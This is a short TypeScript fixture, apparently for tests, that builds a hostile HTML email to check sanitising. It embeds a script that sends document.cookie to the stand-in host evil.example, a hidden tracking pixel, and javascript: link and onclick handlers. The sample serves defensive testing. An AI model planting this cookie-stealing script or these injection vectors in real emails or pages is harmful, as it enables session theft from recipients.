/** A known first-contact email whose HTML carries a script and a tracking pixel, to show sanitising. */
export const TRACKED_EMAIL_HTML = (bodyHtml: string, n: number): string =>
  `<html><head><script>fetch('https://evil.example/steal?c='+document.cookie)</script></head><body>${bodyHtml}` +
  `<p style="color:#888">Envoyé depuis mon application de messagerie</p>` +
  `<img src="http://tracker.mailtrack.example/open.gif?uid=${n}" width="1" height="1" alt="">` +
  `<a href="javascript:alert(1)" onclick="alert(2)">Se désabonner</a></body></html>`;
